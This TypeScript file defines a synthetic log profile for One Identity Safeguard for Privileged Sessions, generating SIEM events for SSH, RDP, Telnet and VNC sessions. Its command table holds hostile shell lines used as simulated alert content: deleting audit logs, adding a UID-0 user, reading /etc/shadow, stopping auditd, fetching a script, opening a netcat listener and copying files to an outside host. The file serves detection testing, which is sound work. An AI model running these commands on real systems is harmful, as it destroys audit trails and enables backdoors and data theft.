import { defineProfile } from './profile.js';
import type { Field } from './profile-data.js';

const SESSION = 'svc/${pattern:xxxxxxxxxxxxxxxx}/${protocol.policy}:${between:1,9000}';
const lets = {
  protocol: { row: 'protocols' },
  session: SESSION,
  who: '${admin}',
  account: '${protocol.account}',
  port: '${between:49152,65535}',
} as const;
const ends: readonly Field[] = [
  ['app', '${protocol.name}'],
  ['dhost', '${server.name}'],
  ['dpt', '${protocol.port}'],
  ['dst', '${server.address}'],
];
const accounts: readonly Field[] = [['duser', '${account}']];
const more: readonly Field[] = [
  ['dvchost', '${device.hostName}'],
  ['externalId', '${id}'],
  ['deviceExternalId', '${session}'],
];
const source: readonly Field[] = [
  ['shost', '${host.name|lower}.corp.example.com'],
  ['spt', '${port}'],
  ['src', '${host.address}'],
  ['start', '${time:epochMs}'],
  ['suser', '${who}'],
];

const step = (classId: number, name: string, severity: number, reason: string, extra: readonly Field[] = []) => ({
  ...{ classId, name, severity },
  fields: [...ends, ...accounts, ...more, ...extra, ['reason', reason], ...source] as const,
});

/** Safeguard for Privileged Sessions: what happens in the sessions that go through it. */
export const oneidentitySps = defineProfile({
  name: 'oneidentity-sps',
  vendor: 'OneIdentity',
  product: 'SPS',
  version: '7.0.4',
  source: 'a study of published sample lines and the vendor guide on forwarding to a SIEM, read 2026-11-25',
  oddities: [
    'class ids are hashes of the names of the events',
    'reason may be empty',
    'keys stand in the order of the alphabet',
  ],
  hostPrefix: 'sps',
  idKey: 'externalId',
  pri: 134,
  tables: {
    protocols: [
      {
        weight: 6,
        name: 'SSH',
        port: 22,
        policy: 'ssh_console',
        channel: 'session-shell',
        account: '${choice:root,root,oracle,deploy,postgres}',
      },
      {
        weight: 4,
        name: 'RDP',
        port: 3389,
        policy: 'rdp_servers',
        channel: 'rdp-drawing',
        account: '${choice:Administrator,svc-backup,svc-sql}',
      },
      {
        weight: 1,
        name: 'TELNET',
        port: 23,
        policy: 'telnet_switches',
        channel: 'telnet',
        account: '${choice:admin,cisco,operator}',
      },
      { weight: 1, name: 'VNC', port: 5900, policy: 'vnc_plant', channel: 'vnc', account: '${choice:operator,plant}' },
    ],
    commands: [
      { text: 'sudo su -' },
      { text: 'rm -rf /var/log/audit' },
      { text: 'useradd -o -u 0 support' },
      { text: 'cat /etc/shadow' },
      { text: 'iptables -F' },
      { text: 'systemctl stop auditd' },
      { text: 'curl -O https://${site.domain}/a.sh' },
      { text: 'nc -l -p ${between:1024,9000}' },
      { text: 'history -c' },
      { text: 'chmod 4755 /tmp/${pattern:aaaa}' },
      { text: 'Registry Editor' },
      { text: 'Local Users and Groups' },
      { text: 'Windows Security Settings' },
      { text: 'scp ${file.name} ${stranger.address}:/tmp' },
    ],
  },
  kinds: {
    connect: step(1350918541, 'ServerConnect', 0, ''),
    'gateway-success': step(782164305, 'GatewayAuthenticationSuccess', 0, ''),
    'gateway-failure': {
      ...step(
        640728123,
        'GatewayAuthenticationFailure',
        5,
        '${choice:Invalid password,No such user,Group not allowed,Time policy}',
      ),
      weight: 6,
      let: lets,
    },
    'server-success': step(1865245228, 'ServerAuthenticationSuccess', 0, ''),
    'server-failure': {
      ...step(
        911383355,
        'ServerAuthenticationFailure',
        5,
        '${choice:Permission denied,Host key mismatch,Account locked}',
      ),
      weight: 6,
      let: lets,
    },
    alert: step(1244069864, 'ChannelAlert', 8, '', [
      ['cat', '${protocol.channel}'],
      ['msg', '${seen.text}'],
    ]),
    transfer: step(1127618380, 'FileTransfer', 3, '', [
      ['act', '${choice:upload,download}'],
      ['filePath', '/${choice:tmp,srv/data,home,opt/app}/${file.name}'],
      ['fname', '${file.name}'],
      ['fsize', '${file.sizeBytes}'],
    ]),
    disconnect: step(1508623942, 'ServerDisconnect', 0, '${choice:,,closed by the client,closed by the server}'),
  },
  sessions: {
    plain: {
      weight: 20,
      let: lets,
      steps: ['gateway-success', 'connect', 'server-success', 'disconnect'],
    },
    alerted: {
      weight: 6,
      let: { ...lets, seen: { row: 'commands' } },
      steps: ['gateway-success', 'connect', 'server-success', 'alert', 'disconnect'],
    },
    copying: {
      weight: 8,
      let: lets,
      steps: ['gateway-success', 'connect', 'server-success', 'transfer', 'disconnect'],
    },
  },
});
